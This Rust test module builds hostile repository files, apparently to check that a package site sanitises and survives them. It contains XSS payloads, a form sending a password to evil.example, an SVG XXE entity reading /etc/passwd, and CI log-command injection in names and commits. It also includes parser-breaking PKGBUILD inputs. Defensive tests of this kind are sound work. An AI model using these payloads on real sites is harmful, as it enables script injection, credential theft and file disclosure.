//! Hostile prose, pictures and recipes.

use serde_json::json;

use super::ID;
use crate::support::repo::{Repo, recipe};

/// What must never be served as anything but text: a mark to look for, inside of what a browser would run.
pub(crate) const MARK: &str = "<script>alert('HOSTILE-MARK')</script>";

fn readme(repo: &Repo, text: impl AsRef<[u8]>) {
    repo.worker(ID).file("README.md", text).commit("hostile");
}

/// Every attack that a README can try, in one.
pub(crate) const ATTACKS: &str = r##"# Hostile

<script>alert(1)</script> <SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)> <img src="https://evil.example/a.png" onerror=alert(1) style="position:fixed;inset:0">
[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) <a href="java&#x0A;script:alert(1)">d</a>
![e](javascript:alert(1)) ![f](data:image/svg+xml;base64,PHN2Zz4=) <a href="vbscript:x" onclick=alert(1)>g</a>

<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>
<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">
<style>body { display: none } .page { position: fixed }</style><link rel=stylesheet href=https://evil.example/x.css>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999" id="install" class="notice">ours</div>
<svg><script>alert(1)</script></svg> <math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>

<h2 id="readme">Read me</h2> <p id="versions">x</p> <a name="main" id="main">x</a>

# Install

# Versions

```"onload=alert(1)
x
```

</div></section></main></body></html><textarea><plaintext>
"##;

pub(super) fn readme_attacks(repo: &Repo) {
    let change = repo.worker(ID).file("README.md", ATTACKS).file("CHANGELOG.md", ATTACKS);
    let text = |m: &mut serde_json::Value| {
        m["name"] = json!("<script>alert(1)</script>");
        m["description"] = json!("\"><img src=x onerror=alert(1)> {{ 7 * 7 }} {% raw %}");
    };
    change.metadata(text).commit("hostile");
}

pub(super) fn readme_quotes(repo: &Repo) {
    readme(repo, "> ".repeat(10_000) + "deep");
}

pub(super) fn readme_lists(repo: &Repo) {
    let lists: String = (0..1_400).map(|level| format!("{}- <ul><li>deep\n", " ".repeat(level))).collect();
    readme(repo, "- ".repeat(10_000) + "deep\n\n" + &lists[..lists.len().min(900_000)]);
}

pub(super) fn readme_headings(repo: &Repo) {
    readme(repo, "# a\n".repeat((1 << 20) / 4));
}

pub(super) fn readme_links(repo: &Repo) {
    readme(repo, "[a](//b.c) ".repeat((1 << 20) / 11));
}

pub(super) fn readme_not_utf8(repo: &Repo) {
    readme(repo, b"# Caf\xe9\n\nA <b>worker</b> \xff\xfe\x9b31m\xe2\x80\n");
}

pub(super) fn license_html(repo: &Repo) {
    let page = format!("<!doctype html><title>x</title>{MARK}");
    let files = repo.worker(ID).file("LICENSE.html", &page).file("LICENSE", &page);
    files.file("LICENSE-'><img src=x onerror=alert(1)>", &page).commit("hostile");
}

pub(super) fn icon_svg(repo: &Repo) {
    let icon = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\
         <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">{MARK}&x;\
         <image href=\"https://evil.example/a.png\"/><use href=\"https://evil.example/b.svg#x\"/></svg>"
    );
    repo.worker(ID).file("icon.svg", &icon).file("icon.png", &icon).commit("hostile");
}

/// Files of a recipe, which are published, with names and bytes that a browser would run.
pub(super) fn local_files_of_html(repo: &Repo) {
    let page = format!("<!doctype html>{MARK}");
    let image = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{MARK}</svg>");
    let names = ["evil.html", "evil.svg", "evil.js", "index.html", "evil.xhtml", "manifest.json"];
    let sums = vec!["'0000000000000000000000000000000000000000000000000000000000000000'"; names.len()].join(" ");
    let change = repo.worker(ID).edit("PKGBUILD", |text| {
        let text = text.replace("source=(", &format!("source=({} ", names.join(" ")));
        text.replace("sha256sums=(", &format!("sha256sums=({sums} ")) + &format!("# {MARK}\n")
    });
    let bytes = |name: &str| if name.ends_with("svg") { image.clone() } else { format!("{name}: {page}") };
    names.iter().fold(change, |change, name| change.file(name, bytes(name))).commit("hostile");
}

fn pkgbuild(repo: &Repo, bytes: impl AsRef<[u8]>) {
    repo.worker(ID).file("PKGBUILD", bytes).commit("hostile");
}

pub(super) fn pkgbuild_nested(repo: &Repo) {
    pkgbuild(repo, format!("{}\na=\"{}x{}\"\n", recipe(ID), "${a:-".repeat(10_000), "}".repeat(10_000)));
}

/// Found by fuzzing: a here-document in an expansion, where the parser expects more text than there is.
pub(super) fn pkgbuild_that_breaks_the_parser(repo: &Repo) {
    pkgbuild(repo, "$[$[]<<\t]$(($[<]");
}

pub(super) fn pkgbuild_long_line(repo: &Repo) {
    pkgbuild(repo, format!("{}\n_data='{}'\n", recipe(ID), "data \" ` * ".repeat(20_000)));
}

/// Nothing of it is an expansion, and a parser that does not see the quotes would recurse into each.
pub(super) fn pkgbuild_quoted_line(repo: &Repo) {
    pkgbuild(repo, format!("{}\n_data='{}'\n", recipe(ID), "\"$(<`".repeat(40_000)));
}

pub(super) fn pkgbuild_many_sources(repo: &Repo) {
    let sources = "http://a ".repeat(25_000);
    pkgbuild(repo, recipe(ID).replace("source=(", &format!("source=({sources}")));
}

pub(super) fn pkgbuild_not_utf8(repo: &Repo) {
    pkgbuild(repo, [recipe(ID).as_bytes(), b"# caf\xe9\n"].concat());
}

/// What a log, a terminal or a CI service would take for its own, in everything that is printed.
pub(super) fn workflow_commands(repo: &Repo) {
    let bad = "::error::x \u{1b}[31m ##[error]y ##vso[task.x]";
    let change = repo.worker(ID).metadata(|m| {
        for field in ["id", "version", "license"] {
            m[field] = json!("::error::x ##[error]y ##vso[task.x]");
        }
    });
    let change = change.edit("PKGBUILD", |text| {
        text.replace("source=(", "source=('::error::x'\n::warning::y\n'##[group]z' ") + "\n# ##[error]\n"
    });
    change.file(bad, "x").file(format!("a\n{bad}"), "x").commit(&format!("{bad}\n\n::error::z\n"));
}
